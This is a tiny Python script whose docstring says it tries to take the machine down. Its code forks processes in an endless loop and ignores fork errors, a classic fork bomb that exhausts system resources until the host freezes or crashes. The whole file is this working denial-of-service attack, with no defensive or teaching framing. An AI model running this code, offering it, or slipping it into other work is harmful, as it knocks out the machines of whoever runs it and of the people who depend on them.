"""Tries to take the machine down: every process starts further ones, for ever."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
